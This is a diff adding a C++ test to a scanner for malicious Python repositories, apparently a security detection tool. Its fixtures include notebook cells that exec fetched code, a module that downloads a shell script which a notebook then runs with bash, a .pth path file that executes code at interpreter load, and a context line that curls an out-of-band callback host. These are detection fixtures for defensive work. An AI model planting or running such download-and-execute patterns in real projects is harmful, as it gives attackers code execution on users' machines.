@@ -141,6 +141,32 @@ TEST(PythonRepository, what_a_builder_hands_to_its_methods) {
   EXPECT_EQ(find_rule(honest, "python-execution"), nullptr) << show(honest);
 }
 
+TEST(PythonRepository, notebooks_and_path_files_are_files_of_it) {
+  const auto cells = [](const std::string& lines) {
+    return "{\"nbformat\": 4, \"metadata\": {}, \"cells\": [{\"cell_type\": \"markdown\", "
+           "\"source\": \"text\"}, {\"cell_type\": \"code\", \"outputs\": [], \"source\": [" +
+           lines + "]}]}";
+  };
+  expect_found({{"train.py", "print(1)\n"},
+                {"data.py", k_fetch},
+                {"a/demo.ipynb", cells("\"%matplotlib inline\\n\", \"from data import fetch\\n\", "
+                                       "\"exec(fetch())\\n\"")}},
+               "python-execution", "a/demo.ipynb", "data.py:3");
+  expect_found(
+      {{"drop.py", "import urllib.request as u\ndef get():\n"
+                   "  u.urlretrieve('http://127.0.0.1/a', 'setup_tool.sh')\n"},
+       {"demo.ipynb", cells("\"import drop\\n\", \"drop.get()\\n\", \"!bash setup_tool.sh\"")}},
+      "python-download-run", "demo.ipynb", "setup_tool.sh");
+  expect_found({{"x.pth", "/usr/lib\nimport data; exec(data.fetch())\n"}, {"data.py", k_fetch}},
+               "python-execution", "x.pth", "data.py:3");
+  const Report honest = analyse({{"data.py", k_fetch},
+                                 {"demo.ipynb", cells("\"from data import fetch\\n\", "
+                                                      "\"print(fetch())\\n\", \"!bash run.sh\"")},
+                                 {"broken.ipynb", "{\"cells\": ["},
+                                 {"weights.pth", "not a path file"}});
+  EXPECT_TRUE(honest.findings.empty()) << show(honest);
+}
+
 TEST(PythonRepository, what_is_suspicious_counts_where_it_runs_at_load) {
   const std::string sh = "import os\ndef run(c):\n    os.system(c)\n";
   const Texts files{{"ds.py", "from sh import run\nrun('curl http://x.oast.fun/a')\n"},
